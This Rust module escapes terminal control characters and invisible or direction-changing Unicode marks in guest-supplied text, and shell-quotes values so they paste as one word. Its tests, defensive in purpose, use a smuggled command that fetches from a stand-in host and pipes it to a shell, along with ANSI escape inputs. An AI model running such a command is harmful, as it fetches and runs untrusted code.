//! Text that a guest controls, shown harmlessly: no escape sequence, no control character, no mark that turns the reading direction reaches
//! the terminal.

/// `text` in one line.
pub(super) fn one_line(text: &str) -> String {
    clean(text, false)
}

/// `text` with its line ends and tabs.
pub(super) fn lines(text: &str) -> String {
    clean(text, true)
}

/// A value that a person can paste into a shell as one word, whatever a guest put into it.
pub(super) fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '/' | '=' | '+' | ',');
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", one_line(text).replace('\'', "'\\''"))
}

fn clean(text: &str, keep_lines: bool) -> String {
    text.chars()
        .flat_map(|c| {
            let kept = !is_hidden(c) || (keep_lines && (c == '\n' || c == '\t'));
            let (plain, escaped) = if kept { (Some(c), None) } else { (None, Some(c.escape_unicode())) };
            plain.into_iter().chain(escaped.into_iter().flatten())
        })
        .collect()
}

/// Control characters (C0, C1) and the marks that change direction or width, or are not seen at all.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
        || matches!(c, '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pasted_word_is_one_word() {
        assert_eq!(shell_word("draft_2"), "draft_2");
        assert_eq!(shell_word("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
    }

    #[test]
    fn escapes_are_shown_and_not_obeyed() {
        assert_eq!(one_line("\u{1b}[31mred\nnext\u{202e}"), "\\u{1b}[31mred\\u{a}next\\u{202e}");
        assert_eq!(lines("a\nb\tc\r\u{9b}1m"), "a\nb\tc\\u{d}\\u{9b}1m");
        assert_eq!(one_line("a\u{61c}b\u{2060}\u{e0041}"), "a\\u{61c}b\\u{2060}\\u{e0041}");
        assert_eq!(one_line("grüße 日本"), "grüße 日本");
    }
}
